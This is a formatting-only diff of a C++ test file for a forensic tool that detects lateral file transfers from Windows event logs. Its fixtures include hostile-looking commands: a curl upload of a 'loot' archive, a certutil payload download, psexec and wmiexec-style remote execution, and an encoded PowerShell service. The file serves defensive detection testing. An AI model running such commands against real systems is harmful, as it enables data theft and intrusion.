@@ -2,7 +2,8 @@
 // each rule's positive case, the look-alikes that must stay non-transfers (IPC$ pipe WriteData,
 // System .etl flushes, \\127.0.0.1\C$ writes, task XML by svchost, read-only 0x120089), evidence
 // of both ends merged into one transfer across clock skew, execution after transfer, service
-// binaries, RDP drive redirection, account spellings (and the NULL SID of failed logons), determinism, and the command-line reader.
+// binaries, RDP drive redirection, account spellings (and the NULL SID of failed logons), determinism, and the
+// command-line reader.
 
 #include "InferenceFixtures.h"
 
@@ -57,8 +58,8 @@ private:
             return nullptr;
         f.write(lines);
         f.close();
-        auto cs = store::CaseStore::open(m_dir.filePath(QStringLiteral("c%1.ttcase").arg(m_n)).toStdString(),
-                                         store::CaseStore::Access::Create);
+        auto cs = store::CaseStore::open(
+            m_dir.filePath(QStringLiteral("c%1.ttcase").arg(m_n)).toStdString(), store::CaseStore::Access::Create);
         ImportEngine engine(*cs, {});
         const ImportSummary s = engine.run({input.toStdString()});
         if (s.stored() == 0)
@@ -77,9 +78,10 @@ private:
     static QString dump(store::CaseStore &cs)
     {
         QString out;
-        auto st = cs.db().prepare("SELECT t.*, (SELECT group_concat(event || ':' || role || ':' || rule, ';') FROM "
-                                  "(SELECT * FROM transfer_evidence e WHERE e.transfer_id = t.id ORDER BY event, role)) "
-                                  "FROM transfers t ORDER BY id");
+        auto st
+            = cs.db().prepare("SELECT t.*, (SELECT group_concat(event || ':' || role || ':' || rule, ';') FROM "
+                              "(SELECT * FROM transfer_evidence e WHERE e.transfer_id = t.id ORDER BY event, role)) "
+                              "FROM transfers t ORDER BY id");
         while (st.step()) {
             for (int c = 0; c < st.columnCount(); ++c)
                 out += QString::fromStdString(st.isNull(c) ? std::string("NULL") : st.text(c)) + QLatin1Char('|');
@@ -93,8 +95,10 @@ private slots:
     {
         QByteArray b;
         b += logon(kDst, at(10), kSrcIp, 50001, "0x1000");
-        b += shareCheck(kDst, at(11), kSrcIp, 50001, "0x1000", "\\\\*\\C$", "\\??\\C:\\", "Windows\\Temp\\tool.exe", "0x17019f");
-        b += shareCheck(kDst, at(11), kSrcIp, 50001, "0x1000", "\\\\*\\C$", "\\??\\C:\\", "Windows\\Temp\\tool.exe", "0x2");
+        b += shareCheck(
+            kDst, at(11), kSrcIp, 50001, "0x1000", "\\\\*\\C$", "\\??\\C:\\", "Windows\\Temp\\tool.exe", "0x17019f");
+        b += shareCheck(
+            kDst, at(11), kSrcIp, 50001, "0x1000", "\\\\*\\C$", "\\??\\C:\\", "Windows\\Temp\\tool.exe", "0x2");
         // The folder the file went into: WriteData on a directory means "add file", no transfer.
         b += shareCheck(kDst, at(11), kSrcIp, 50001, "0x1000", "\\\\*\\C$", "\\??\\C:\\", "Windows\\Temp", "0x2");
         auto cs = makeCase(b);
@@ -124,27 +128,30 @@ private slots:
         b += shareCheck(kDst, at(10.2), kSrcIp, 50002, "0x1001", "\\\\*\\IPC$", "", "svcctl", "0x12019f");
         // System flushing ETW buffers while an SMB session is open.
         b += netConnect(kDst, at(20), false, kSrcIp, 50003, kDstIp, 445);
-        b += fileCreate(kDst, at(21), "System", "C:\\Windows\\System32\\LogFiles\\WMI\\RtBackup\\EtwRTEventLog-System.etl");
+        b += fileCreate(
+            kDst, at(21), "System", "C:\\Windows\\System32\\LogFiles\\WMI\\RtBackup\\EtwRTEventLog-System.etl");
         // Reads (0x120089) of an existing file by a remote session.
-        b += shareCheck(kDst, at(30), kSrcIp, 50003, "0x1002", "\\\\*\\C$", "\\??\\C:\\", "Users\\Public\\report.pdf",
-                        "0x120089");
+        b += shareCheck(
+            kDst, at(30), kSrcIp, 50003, "0x1002", "\\\\*\\C$", "\\??\\C:\\", "Users\\Public\\report.pdf", "0x120089");
         // A local job copying through \\127.0.0.1\C$ (loopback session, 5145, System write).
         b += process(kDst, at(40), "{AAAAAAAA-0000-0000-0000-000000000040}", 4040, "C:\\Windows\\System32\\cmd.exe",
-                     "cmd.exe /c copy /y D:\\SQLBackup\\nightly.bak \\\\127.0.0.1\\C$\\Backup\\", "CORP\\svc_backup");
+            "cmd.exe /c copy /y D:\\SQLBackup\\nightly.bak \\\\127.0.0.1\\C$\\Backup\\", "CORP\\svc_backup");
         b += netConnect(kDst, at(40.1), true, "127.0.0.1", 50010, "127.0.0.1", 445);
         b += logon(kDst, at(40.12), "127.0.0.1", 50010, "0x1003", 3, "CORP", "svc_backup");
-        b += shareCheck(kDst, at(40.15), "127.0.0.1", 50010, "0x1003", "\\\\*\\C$", "\\??\\C:\\", "Backup\\nightly.bak", "0x2");
+        b += shareCheck(
+            kDst, at(40.15), "127.0.0.1", 50010, "0x1003", "\\\\*\\C$", "\\??\\C:\\", "Backup\\nightly.bak", "0x2");
         b += fileCreate(kDst, at(40.16), "System", "C:\\Backup\\nightly.bak");
         // wmiexec-style output written through \\127.0.0.1\C$ while a remote SMB session is open.
         b += netConnect(kDst, at(49.5), false, kSrcIp, 50011, kDstIp, 445);
         b += process(kDst, at(50), "{AAAAAAAA-0000-0000-0000-000000000050}", 4050, "C:\\Windows\\System32\\cmd.exe",
-                     "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\C$\\__output 2>&1", "CORP\\admin", "0x5000",
-                     "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe");
+            "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\C$\\__output 2>&1", "CORP\\admin", "0x5000",
+            "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe");
         b += fileCreate(kDst, at(50.2), "System", "C:\\__output");
         b += netConnect(kDst, at(51), true, "127.0.0.1", 50012, "127.0.0.1", 445);
         // Task XML written by the Schedule service right after inbound RPC.
         b += netConnect(kDst, at(60), false, kSrcIp, 50013, kDstIp, 135, "C:\\Windows\\System32\\svchost.exe");
-        b += fileCreate(kDst, at(60.5), "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\Tasks\\UpdateCheck", 1200);
+        b += fileCreate(
+            kDst, at(60.5), "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\Tasks\\UpdateCheck", 1200);
         // A service whose ImagePath is an inline command, not a dropped binary.
         b += service(kDst, at(70), "Updater", "%COMSPEC% /b /c start /b /min powershell -nop -enc AAAA");
         auto cs = makeCase(b);
@@ -160,11 +167,12 @@ private slots:
         QByteArray b;
         b += fileCreate(kSrc, at(50), "C:\\Users\\admin\\implant.exe", "C:\\ProgramData\\tool.exe", 3000);
         b += process(kSrc, at(100), "{BBBBBBBB-0000-0000-0000-000000000100}", 3100, "C:\\Windows\\System32\\cmd.exe",
-                     "C:\\Windows\\system32\\cmd.exe /c copy /y C:\\ProgramData\\tool.exe \\\\WS6\\C$\\ProgramData\\tool.exe");
+            "C:\\Windows\\system32\\cmd.exe /c copy /y C:\\ProgramData\\tool.exe \\\\WS6\\C$\\ProgramData\\tool.exe");
         b += pushBothEnds(100, "ProgramData\\tool.exe", "C:\\ProgramData\\tool.exe", 50020, "0x2000");
         // Runs on the destination a minute later.
-        b += process(kDst, at(100 + kSkew + 60), "{CCCCCCCC-0000-0000-0000-000000000160}", 6160, "C:\\ProgramData\\tool.exe",
-                     "C:\\ProgramData\\tool.exe", "CORP\\admin", "0x2001", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe");
+        b += process(kDst, at(100 + kSkew + 60), "{CCCCCCCC-0000-0000-0000-000000000160}", 6160,
+            "C:\\ProgramData\\tool.exe", "C:\\ProgramData\\tool.exe", "CORP\\admin", "0x2001",
+            "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe");
         auto cs = makeCase(b);
         QVERIFY(cs);
         const auto rows = infer(*cs);
@@ -180,13 +188,16 @@ private slots:
         QVERIFY(r.srcEvidence >= 3); // command, connection, staged file
         for (const char *rule : {"smb-share-write", "system-write", "source-command", "execution"})
             QVERIFY2(QString::fromStdString(r.rules).contains(QLatin1String(rule)), rule);
-        for (const char *role : {"src-command", "src-connect", "src-file", "dst-write", "dst-create", "dst-logon", "dst-share",
-                                 "dst-connect", "dst-exec"})
-            QVERIFY2(count(*cs, qPrintable(QStringLiteral("SELECT count(*) FROM transfer_evidence WHERE role='%1'")
-                                               .arg(QLatin1String(role)))) > 0,
-                     role);
-        QCOMPARE(count(*cs, "SELECT count(*) FROM transfers WHERE src_process_id IS NOT NULL AND dst_process_id IS NOT NULL"),
-                 int64_t(1));
+        for (const char *role : {"src-command", "src-connect", "src-file", "dst-write", "dst-create", "dst-logon",
+                 "dst-share", "dst-connect", "dst-exec"})
+            QVERIFY2(count(*cs,
+                         qPrintable(QStringLiteral("SELECT count(*) FROM transfer_evidence WHERE role='%1'")
+                                        .arg(QLatin1String(role))))
+                    > 0,
+                role);
+        QCOMPARE(count(*cs,
+                     "SELECT count(*) FROM transfers WHERE src_process_id IS NOT NULL AND dst_process_id IS NOT NULL"),
+            int64_t(1));
         QCOMPARE(count(*cs, "SELECT count(*) FROM transfers WHERE hashes IS NOT NULL"), int64_t(1));
     }
 
@@ -204,8 +215,9 @@ private slots:
     {
         QByteArray b = pushBothEnds(100, "Windows\\abcdSvc.exe", "C:\\Windows\\abcdSvc.exe", 50040, "0x4000");
         b += service(kDst, at(100 + kSkew + 1), "abcd", "%SystemRoot%\\abcdSvc.exe");
-        b += process(kDst, at(100 + kSkew + 1.2), "{DDDDDDDD-0000-0000-0000-000000000001}", 7001, "C:\\Windows\\abcdSvc.exe",
-                     "C:\\Windows\\abcdSvc.exe", "NT AUTHORITY\\SYSTEM", "0x3e7", "C:\\Windows\\System32\\services.exe");
+        b += process(kDst, at(100 + kSkew + 1.2), "{DDDDDDDD-0000-0000-0000-000000000001}", 7001,
+            "C:\\Windows\\abcdSvc.exe", "C:\\Windows\\abcdSvc.exe", "NT AUTHORITY\\SYSTEM", "0x3e7",
+            "C:\\Windows\\System32\\services.exe");
         auto cs = makeCase(b);
         QVERIFY(cs);
         const auto rows = infer(*cs);
@@ -221,7 +233,7 @@ private slots:
         // Only the destination's Sysmon: System writes the binary, services.exe starts it.
         QByteArray b = fileCreate(kDst, at(10), "System", "C:\\Windows\\RENAMEDSVC.exe");
         b += process(kDst, at(10.2), "{EEEEEEEE-0000-0000-0000-000000000001}", 7100, "C:\\Windows\\RENAMEDSVC.exe",
-                     "C:\\Windows\\RENAMEDSVC.exe", "NT AUTHORITY\\SYSTEM", "0x3e7", "C:\\Windows\\System32\\services.exe");
+            "C:\\Windows\\RENAMEDSVC.exe", "NT AUTHORITY\\SYSTEM", "0x3e7", "C:\\Windows\\System32\\services.exe");
         // A System write that nothing ties to a session or a service stays out.
         b += fileCreate(kDst, at(300), "System", "C:\\Windows\\Temp\\unexplained.dat");
         auto cs = makeCase(b);
@@ -239,13 +251,14 @@ private slots:
         b += netConnect(kDst, at(10), false, kSrcIp, 50050, kDstIp, 3389, "C:\\Windows\\System32\\svchost.exe");
         b += logon(kDst, at(14), kSrcIp, 0, "0x6000", 10);
         b += process(kDst, at(80), "{FFFFFFFF-0000-0000-0000-000000000080}", 8080, "C:\\Windows\\System32\\cmd.exe",
-                     "\"C:\\Windows\\system32\\cmd.exe\" /c copy \\\\tsclient\\C\\ProgramData\\t.exe "
-                     "C:\\Users\\admin\\AppData\\Local\\Temp\\t.exe",
-                     "CORP\\admin", "0x6000");
-        b += fileCreate(kDst, at(80.9), "C:\\Windows\\System32\\cmd.exe", "C:\\Users\\admin\\AppData\\Local\\Temp\\t.exe", 8080);
+            "\"C:\\Windows\\system32\\cmd.exe\" /c copy \\\\tsclient\\C\\ProgramData\\t.exe "
+            "C:\\Users\\admin\\AppData\\Local\\Temp\\t.exe",
+            "CORP\\admin", "0x6000");
+        b += fileCreate(
+            kDst, at(80.9), "C:\\Windows\\System32\\cmd.exe", "C:\\Users\\admin\\AppData\\Local\\Temp\\t.exe", 8080);
         // And the client's own drive used to run a program directly.
         b += process(kDst, at(90), "{FFFFFFFF-0000-0000-0000-000000000090}", 8090, "\\\\tsclient\\c\\temp\\a.exe",
-                     "\"\\\\tsclient\\c\\temp\\a.exe\"", "CORP\\admin", "0x6000");
+            "\"\\\\tsclient\\c\\temp\\a.exe\"", "CORP\\admin", "0x6000");
         auto cs = makeCase(b);
         QVERIFY(cs);
         const auto rows = infer(*cs);
@@ -267,9 +280,9 @@ private slots:
         // mstsc on the client writes what the server copied into \\tsclient\C.
         QByteArray b = netConnect(kSrc, at(5), true, kSrcIp, 50060, kDstIp, 3389, "C:\\Windows\\System32\\mstsc.exe");
         b += fileCreate(kSrc, at(100), "C:\\Windows\\system32\\mstsc.exe",
-                        "C:\\Users\\admin\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\evil.exe", 2580);
+            "C:\\Users\\admin\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\evil.exe", 2580);
         b += fileCreate(kSrc, at(101), "C:\\Windows\\system32\\mstsc.exe",
-                        "C:\\Users\\admin\\AppData\\Local\\Microsoft\\Terminal Server Client\\Cache\\bcache24.bmc", 2580);
+            "C:\\Users\\admin\\AppData\\Local\\Microsoft\\Terminal Server Client\\Cache\\bcache24.bmc", 2580);
         auto cs = makeCase(b);
         QVERIFY(cs);
         const auto rows = infer(*cs);
@@ -284,7 +297,8 @@ private slots:
     {
         // Kerberos 4624 spells the domain as DNS (CORP.LOCAL), 5145 as NetBIOS (CORP).
         QByteArray b = logon(kDst, at(10), kSrcIp, 50070, "0x7000", 3, "CORP.LOCAL", "Admin");
-        b += shareCheck(kDst, at(11), kSrcIp, 50070, "0x7000", "\\\\*\\ADMIN$", "\\??\\C:\\Windows", "Temp\\y.ps1", "0x2");
+        b += shareCheck(
+            kDst, at(11), kSrcIp, 50070, "0x7000", "\\\\*\\ADMIN$", "\\??\\C:\\Windows", "Temp\\y.ps1", "0x2");
         auto cs = makeCase(b);
         QVERIFY(cs);
         const auto rows = infer(*cs);
@@ -318,26 +332,26 @@ private slots:
         // them, so admin's copy was shown as lfischer's.
         auto failed = [](double t, const char *user) {
             return security(kDst, 4625, at(t),
-                            {{"SubjectUserSid", QStringLiteral("S-1-0-0")}, {"SubjectUserName", QStringLiteral("-")},
-                             {"TargetUserSid", QStringLiteral("S-1-0-0")}, {"TargetUserName", QString::fromLatin1(user)},
-                             {"TargetDomainName", QStringLiteral("CORP.LOCAL")}, {"LogonType", QStringLiteral("3")},
-                             {"Status", QStringLiteral("0xc000006d")}, {"IpAddress", QString::fromLatin1(kSrcIp)},
-                             {"IpPort", QStringLiteral("50090")}});
+                {{"SubjectUserSid", QStringLiteral("S-1-0-0")}, {"SubjectUserName", QStringLiteral("-")},
+                    {"TargetUserSid", QStringLiteral("S-1-0-0")}, {"TargetUserName", QString::fromLatin1(user)},
+                    {"TargetDomainName", QStringLiteral("CORP.LOCAL")}, {"LogonType", QStringLiteral("3")},
+                    {"Status", QStringLiteral("0xc000006d")}, {"IpAddress", QString::fromLatin1(kSrcIp)},
+                    {"IpPort", QStringLiteral("50090")}});
         };
         auto success = [](double t, const char *domain, const char *user, const char *sid, const char *logonId) {
             return security(kDst, 4624, at(t),
-                            {{"TargetUserSid", QString::fromLatin1(sid)}, {"TargetUserName", QString::fromLatin1(user)},
-                             {"TargetDomainName", QString::fromLatin1(domain)},
-                             {"TargetLogonId", QString::fromLatin1(logonId)}, {"LogonType", QStringLiteral("3")},
-                             {"IpAddress", QString::fromLatin1(kSrcIp)}, {"IpPort", QStringLiteral("50091")},
-                             {"AuthenticationPackageName", QStringLiteral("Kerberos")}});
+                {{"TargetUserSid", QString::fromLatin1(sid)}, {"TargetUserName", QString::fromLatin1(user)},
+                    {"TargetDomainName", QString::fromLatin1(domain)}, {"TargetLogonId", QString::fromLatin1(logonId)},
+                    {"LogonType", QStringLiteral("3")}, {"IpAddress", QString::fromLatin1(kSrcIp)},
+                    {"IpPort", QStringLiteral("50091")}, {"AuthenticationPackageName", QStringLiteral("Kerberos")}});
         };
         QByteArray b = failed(1, "lfischer");
         b += failed(2, "admin");
         b += success(3, "CORP", "lfischer", "S-1-5-21-1-2-3-1118", "0x6100");
         b += success(4, "CORP.LOCAL", "lfischer", "S-1-5-21-1-2-3-1118", "0x6101");
         b += logon(kDst, at(10), kSrcIp, 50092, "0x7100", 3, "CORP", "admin");
-        b += shareCheck(kDst, at(11), kSrcIp, 50092, "0x7100", "\\\\*\\ADMIN$", "\\??\\C:\\Windows", "Temp\\n.exe", "0x2");
+        b += shareCheck(
+            kDst, at(11), kSrcIp, 50092, "0x7100", "\\\\*\\ADMIN$", "\\??\\C:\\Windows", "Temp\\n.exe", "0x2");
         auto cs = makeCase(b);
         QVERIFY(cs);
         const auto rows = infer(*cs);
@@ -345,9 +359,10 @@ private slots:
         QCOMPARE(rows[0].account, std::string("CORP\\admin"));
         QCOMPARE(count(*cs, "SELECT count(*) FROM accounts WHERE sid = 'S-1-0-0'"), int64_t(0));
         // The real SID of a spelling first seen in a failed logon is still learnt.
-        QCOMPARE(count(*cs, "SELECT count(*) FROM accounts WHERE domain = 'CORP.LOCAL' AND name_key = 'LFISCHER' "
-                            "AND sid = 'S-1-5-21-1-2-3-1118'"),
-                 int64_t(1));
+        QCOMPARE(count(*cs,
+                     "SELECT count(*) FROM accounts WHERE domain = 'CORP.LOCAL' AND name_key = 'LFISCHER' "
+                     "AND sid = 'S-1-5-21-1-2-3-1118'"),
+            int64_t(1));
         inference::TransferFilter f;
         f.account = "CORP\\lfischer";
         QCOMPARE(inference::listTransfers(cs->db(), f).size(), size_t(0));
@@ -356,8 +371,9 @@ private slots:
     void deterministic()
     {
         QByteArray b;
-        b += process(kSrc, at(100), "{BBBBBBBB-0000-0000-0000-000000000200}", 3200, "C:\\Windows\\System32\\Robocopy.exe",
-                     "robocopy  C:\\IT\\Tools \\\\WS6\\C$\\IT\\Tools Procmon64.exe /R:1 /W:1");
+        b += process(kSrc, at(100), "{BBBBBBBB-0000-0000-0000-000000000200}", 3200,
+            "C:\\Windows\\System32\\Robocopy.exe",
+            "robocopy  C:\\IT\\Tools \\\\WS6\\C$\\IT\\Tools Procmon64.exe /R:1 /W:1");
         b += pushBothEnds(100, "IT\\Tools\\Procmon64.exe", "C:\\IT\\Tools\\Procmon64.exe", 50080, "0x8000");
         b += pushBothEnds(300, "Windows\\Temp\\x.exe", "C:\\Windows\\Temp\\x.exe", 50081, "0x8001");
         b += fileCreate(kDst, at(400), "System", "C:\\ProgramData\\z.dll");
@@ -386,23 +402,32 @@ private slots:
                                        << "WS7|p.exe|push|IT\\Tools\\p.exe";
         QTest::newRow("robocopy files") << "robocopy C:\\stage \\\\WS6\\ADMIN$\\Temp t1.exe t2.dll /R:0"
                                         << "WS6|t1.exe|push|Temp\\t1.exe ; WS6|t2.dll|push|Temp\\t2.dll";
-        QTest::newRow("pull") << "copy \\\\FS1\\share\\drop\\x.zip C:\\Users\\u\\x.zip" << "FS1|x.zip|pull|drop\\x.zip";
-        QTest::newRow("Copy-Item") << "powershell -c Copy-Item -Path .\\w.dll -Destination FileSystem::\\\\WS6\\C$\\Windows\\w.dll"
-                                   << "WS6|w.dll|push|Windows\\w.dll";
+        QTest::newRow("pull") << "copy \\\\FS1\\share\\drop\\x.zip C:\\Users\\u\\x.zip"
+                              << "FS1|x.zip|pull|drop\\x.zip";
+        QTest::newRow("Copy-Item")
+            << "powershell -c Copy-Item -Path .\\w.dll -Destination FileSystem::\\\\WS6\\C$\\Windows\\w.dll"
+            << "WS6|w.dll|push|Windows\\w.dll";
         QTest::newRow("Out-File") << "Out-File -Encoding ascii -FilePath \\\\ws6.corp.local\\C$\\Windows\\Tasks\\p.xml"
                                   << "ws6.corp.local|p.xml|push|Windows\\Tasks\\p.xml";
-        QTest::newRow("psexec -c") << "C:\\ProgramData\\px64.exe \\\\WS6 -accepteula -s -r svc -c -f C:\\ProgramData\\tool.exe"
-                                   << "WS6|tool.exe|push|tool.exe";
-        QTest::newRow("psexec no copy") << "PsExec.exe \\\\WS6 -accepteula -s cmd /c gpupdate /force" << "";
-        QTest::newRow("scp push") << "scp -P 2222 /tmp/t.bin root@10.0.0.9:/opt/t.bin" << "10.0.0.9|t.bin|push|/opt/t.bin";
-        QTest::newRow("pscp pull") << "pscp.exe -pw x admin@srv1:/var/log/a.tgz C:\\a.tgz" << "srv1|a.tgz|pull|/var/log/a.tgz";
-        QTest::newRow("curl upload") << "curl.exe -T C:\\loot\\db.7z http://10.0.0.9:8080/up/" << "10.0.0.9|db.7z|push|up/";
+        QTest::newRow("psexec -c")
+            << "C:\\ProgramData\\px64.exe \\\\WS6 -accepteula -s -r svc -c -f C:\\ProgramData\\tool.exe"
+            << "WS6|tool.exe|push|tool.exe";
+        QTest::newRow("psexec no copy") << "PsExec.exe \\\\WS6 -accepteula -s cmd /c gpupdate /force"
+                                        << "";
+        QTest::newRow("scp push") << "scp -P 2222 /tmp/t.bin root@10.0.0.9:/opt/t.bin"
+                                  << "10.0.0.9|t.bin|push|/opt/t.bin";
+        QTest::newRow("pscp pull") << "pscp.exe -pw x admin@srv1:/var/log/a.tgz C:\\a.tgz"
+                                   << "srv1|a.tgz|pull|/var/log/a.tgz";
+        QTest::newRow("curl upload") << "curl.exe -T C:\\loot\\db.7z http://10.0.0.9:8080/up/"
+                                     << "10.0.0.9|db.7z|push|up/";
         QTest::newRow("certutil pull") << "certutil -urlcache -split -f http://10.0.0.8/p.exe C:\\Users\\Public\\p.exe"
                                        << "10.0.0.8|p.exe|pull|p.exe";
         QTest::newRow("smbclient put") << "smbclient //10.0.0.6/C$ -U admin -c 'put tool.exe Windows\\Temp\\tool.exe'"
                                        << "10.0.0.6|tool.exe|push|Windows\\Temp\\tool.exe";
-        QTest::newRow("local copy") << "copy C:\\a.txt D:\\b.txt" << "";
-        QTest::newRow("wildcard") << "copy C:\\x\\*.exe \\\\WS6\\C$\\x\\" << "";
+        QTest::newRow("local copy") << "copy C:\\a.txt D:\\b.txt"
+                                    << "";
+        QTest::newRow("wildcard") << "copy C:\\x\\*.exe \\\\WS6\\C$\\x\\"
+                                  << "";
     }
 
     void commandParser()
@@ -413,7 +438,7 @@ private slots:
         for (const auto &m : inference::CommandParser::parse(cmd.toStdString()))
             got << QStringLiteral("%1|%2|%3|%4")
                        .arg(QString::fromStdString(m.host), QString::fromStdString(m.fileName),
-                            QLatin1String(m.push ? "push" : "pull"), QString::fromStdString(m.remotePath));
+                           QLatin1String(m.push ? "push" : "pull"), QString::fromStdString(m.remotePath));
         QCOMPARE(got.join(QStringLiteral(" ; ")), expected);
     }
 };
